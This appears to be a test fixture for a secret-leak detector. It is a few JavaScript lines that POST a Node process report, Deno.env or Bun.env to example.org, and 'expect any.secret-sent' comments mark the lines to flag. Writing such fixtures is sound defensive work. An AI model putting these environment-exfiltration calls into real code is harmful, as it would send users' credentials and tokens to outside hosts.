// The report of Node has all variables of the environment.
const report = process.report.getReport();
fetch("https://example.org/", { method: "POST", body: JSON.stringify(report) });
fetch("https://example.org/", { method: "POST", body: JSON.stringify(process.report.getReport().environmentVariables) });
fetch("https://example.org/", { method: "POST", body: JSON.stringify(Deno.env.toObject()) });
fetch("https://example.org/", { method: "POST", body: JSON.stringify(Bun.env) });
import { env } from "bun";
fetch("https://example.org/", { method: "POST", body: JSON.stringify(env) });
// expect 3 any.secret-sent
// expect 4 any.secret-sent
// expect 5 any.secret-sent
// expect 6 any.secret-sent
// expect 8 any.secret-sent
